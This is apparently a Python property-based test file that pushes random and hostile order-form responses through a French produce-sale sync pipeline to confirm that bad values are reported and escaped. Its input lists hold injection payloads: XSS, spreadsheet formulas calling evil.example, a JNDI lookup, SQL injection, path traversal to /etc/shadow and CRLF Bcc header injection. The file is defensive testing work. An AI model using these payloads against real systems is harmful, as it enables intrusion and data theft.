"""Random and hostile form responses through the whole pipeline (refresh, the emails due, every email
written and built), on the demo group in memory: nothing crashes, every bad value is reported in
Anomalies with its row and column, the valid orders come out exactly as without the hostile rows, and
what a consumer typed stays data (escaped in HTML, one line in headers, text in the sheet).

Hostile rows arrive after every valid one (a later order never takes stock from an earlier one), from
addresses of their own; whether each cell is good or bad is known by construction."""

from __future__ import annotations

import re
from datetime import timedelta

from conftest import at
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from sync import config as config_module
from sync import cycle, demo, refresh, sheet, snapshot
from sync.mail import compose
from sync.mail.journal import Journal
from sync.mail.message import build
from sync.questions import product_code
from sync.stores import MemoryStore
from sync.values import show

NOW = at("2026-12-10 19:00")  # the December sale closes at 20:00; every demo response of December is in
CONFIG = config_module.Config()
TAB = sheet.RESPONSES.name
BASE = demo.build()
HEADER = BASE[TAB][0]
COLUMNS = {product_code(h): i for i, h in enumerate(HEADER) if product_code(h)}
PRODUCTS = ["PAIN1", "LEG3", "CHV1", "OEU1", "VIA1", "VIA2"]  # offered in 2026-12 (VIA1 by weight, VIA2 stock 4)
# Each example runs the whole pipeline (about a second): few examples, no shrinking (it would take minutes;
# a failure prints the rows as drawn), the same examples on every run.
SETTINGS = settings(max_examples=25, deadline=None, derandomize=True, phases=[Phase.explicit, Phase.generate],
                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])

# --- what a consumer can type --------------------------------------------------------------------

MARKERS = ["<script>alert('paniers')</script>", "<img src=x onerror=alert(1)>"]
NASTY = [
    *MARKERS, "=IMPORTXML(\"http://evil.example\";\"//a\")", "=1+1", "+cmd|' /C calc'!A0", "@SUM(A1:A9)",
    "-2+3", "../../../etc/passwd", "C:\\Windows\\System32\\drivers\\etc\\hosts", "/etc/shadow", "{{ 7*7 }}",
    "{% for x in y %}", "${jndi:ldap://evil.example/a}", "'; DROP TABLE commandes; --",
    "Ducloux\r\nBcc: x@evil.example",
    "Zoë\u202eevil\u202c", "\x00\x01\x07\x1b[31mrouge", "ﷺ𒐫👨‍👩‍👧‍👦", "A" * 100_000, " ", "\t\n",
]
text = st.one_of(st.sampled_from(NASTY), st.text(max_size=60),
                 st.text(alphabet=st.characters(codec="utf-8"), min_size=1, max_size=300))

good_quantity = st.one_of(st.integers(0, 50), st.integers(0, 50).map(str), st.integers(0, 50).map(lambda n: f" {n} "))
bad_quantity = st.one_of(
    st.integers(51, 10**15), st.integers(-10**15, -1), st.integers(-10**15, -1).map(str),
    st.sampled_from([1.5, "2,5", "0,75", float("inf"), float("-inf"), "deux", "douze", "1e3", "0x10",
                     "=1+1", "<b>2</b>", "2 pains", "--1", "1/2", "∞"]),
    st.text(alphabet=st.characters(exclude_categories=("Nd", "Zs", "Cc", "Zl", "Zp")), min_size=1, max_size=20)
    .filter(lambda t: t.strip() != ""),
)
bad_email = st.one_of(st.sampled_from(["pas-une-adresse", "a@b", "a@@example.org", "a b@example.org",
                                       "x@example.org\r\nBcc: victime@example.org", "<script>@x.org",
                                       "é@exemple.fr", "a@" + "b" * 300 + ".org", "=HYPERLINK(1)", "@example.org"]),
                      st.text(alphabet=st.characters(exclude_characters="@"), min_size=1, max_size=40)
                      .filter(lambda t: t.strip() != ""))
bad_time = st.sampled_from(["hier soir", "32/13/2026 25:61", "=NOW()", "2026-02-30", "<script>", "-1", "99999999",
                            "01/01/2020 10:00:00", "31/12/2030 10:00:00"])


@st.composite
def hostile_row(draw, number: int) -> tuple[list, dict]:
    """A response row and what is wrong with it: {"time"|"email"|"outside"|product code: raw value}."""
    row = [""] * len(HEADER)
    wrong: dict = {}
    moment = at("2026-12-10 12:00") + timedelta(minutes=number)  # after every valid December response
    row[0] = moment.strftime("%d/%m/%Y %H:%M:%S")
    if draw(st.integers(0, 9)) == 0:
        row[0] = draw(bad_time)
        wrong["outside" if row[0].startswith(("01/01/2020", "31/12/2030")) else "time"] = row[0]
    row[1] = f"hostile{number}@example.net"
    if draw(st.integers(0, 7)) == 0:
        row[1] = draw(bad_email)
        wrong["email"] = row[1]
    for column in ("Nom", "Prénom", "Téléphone", "Commentaire"):
        row[HEADER.index(column)] = draw(text)
    for code in draw(st.lists(st.sampled_from(PRODUCTS), min_size=1, max_size=4, unique=True)):
        bad = draw(st.booleans())
        row[COLUMNS[code]] = draw(bad_quantity if bad else good_quantity)
        if bad:
            wrong[code] = row[COLUMNS[code]]
    return row, wrong


# --- the pipeline --------------------------------------------------------------------------------

def pipeline(grids: dict):
    result = refresh.refresh(snapshot.read(MemoryStore(grids), CONFIG), CONFIG, NOW)
    emails = []
    if result.complete:
        due = cycle.plan(result, Journal([], None, CONFIG.tz), compose.Letterhead.from_config(CONFIG))
        emails = [e.ready() for e in due.emails]  # every email written, as tick or preview would
        for email in emails:
            message = build(email, NOW) if "@" in email.recipient else None
            if message is not None:
                assert len(message["To"].addresses) == 1 and message["Bcc"] is None and message["Cc"] is None
                assert "\n" not in str(message["Subject"]) and "\r" not in str(message["Subject"])
                bytes(message)  # and it serialises
    for grid in result.changes.replace.values():
        assert all(type(v) in (str, int, float) for row in grid for v in row)
    return result, emails


def valid_lines(result) -> set[tuple]:
    lines = result.book.lines
    demo_addresses = {row[2] for row in demo.HOUSEHOLDS}
    mine = lines[lines["email"].isin(demo_addresses)]
    return {(r.sale, r.email, r.product, r.requested, r.allocated, str(r.amount), r.status)
            for r in mine.itertuples(index=False)}


BASELINE, _ = pipeline(BASE)


def with_rows(rows: list[list]) -> dict:
    grids = {name: [list(r) for r in grid] for name, grid in BASE.items()}
    grids[TAB] = [*grids[TAB], *rows]
    return grids


@SETTINGS
@given(st.integers(1, 6).flatmap(lambda n: st.tuples(*[hostile_row(i) for i in range(n)])))
def test_hostile_responses_are_reported_and_leave_valid_orders_alone(drawn):
    rows = [row for row, _ in drawn]
    result, emails = pipeline(with_rows(rows))
    assert valid_lines(result) == valid_lines(BASELINE)  # valid orders: exactly as without the hostile rows
    first_row = len(BASE[TAB]) + 1  # sheet row number of the first hostile row
    for offset, (_row, wrong) in enumerate(drawn):
        number = first_row + offset
        reported = [p for p in result.problems if p.tab == TAB and p.row == number]
        if "time" in wrong:
            assert any(p.column == "Horodateur" and p.value == show(wrong["time"]) for p in reported), reported
            continue
        if "email" in wrong:
            assert any(p.column == "Adresse e-mail" and p.value == show(wrong["email"]) for p in reported), reported
            continue
        if "outside" in wrong:
            assert any(p.column == "Horodateur" for p in reported), reported
            continue
        for code, raw in wrong.items():
            assert any(p.column == HEADER[COLUMNS[code]] and p.value == show(raw) for p in reported), (code, raw)
        assert len({p.column for p in reported if p.severity == "erreur"}) == len(wrong)  # and nothing else
    anomalies = result.frames[sheet.ANOMALIES.name]
    assert all(len(str(v)) <= 200 for v in anomalies["Valeur"])  # a huge cell is quoted, not copied whole
    for email in emails:
        for marker in MARKERS:
            assert marker not in email.html  # escaped: shown as text, never run
    for problem in result.problems:
        assert problem.message and not re.search(r"Traceback|Error\b", problem.message)


@SETTINGS
@given(st.sampled_from(["Adresse e-mail", "Horodateur"]), st.lists(hostile_row(0), min_size=1, max_size=3))
def test_a_missing_required_column_stops_the_orders_with_a_french_error(column, drawn):
    grids = with_rows([row for row, _ in drawn])
    index = HEADER.index(column)
    grids[TAB] = [[v for i, v in enumerate(row) if i != index] for row in grids[TAB]]
    result, emails = pipeline(grids)
    assert not result.complete and emails == []
    assert any(p.column == column and "colonne obligatoire absente" in p.message for p in result.blocked)
    assert sheet.ORDERS.name not in result.changes.replace  # the orders of last time stay as they were


@SETTINGS
@given(st.lists(hostile_row(0), min_size=1, max_size=3), st.sampled_from(["PAIN1", "OEU1", "VIA2"]),
       st.sampled_from(["Téléphone", "Commentaire", "Nom"]), text)
def test_duplicated_headers_missing_optional_columns_and_odd_headers(drawn, doubled, dropped, odd_header):
    grids = with_rows([row for row, _ in drawn])
    duplicate = HEADER[COLUMNS[doubled]]
    grids[TAB] = [[*row, duplicate if n == 0 else "50000", odd_header if n == 0 else "7"]
                  for n, row in enumerate(grids[TAB])]  # a second column with the same title, one unknown
    index = HEADER.index(dropped)
    grids[TAB] = [[v for i, v in enumerate(row) if i != index] for row in grids[TAB]]
    result, _ = pipeline(grids)
    assert result.complete
    assert any("colonne en double" in p.message and p.column == duplicate for p in result.problems)
    assert valid_lines(result) == valid_lines(BASELINE)  # the doubled column is not read: no 50000 anywhere
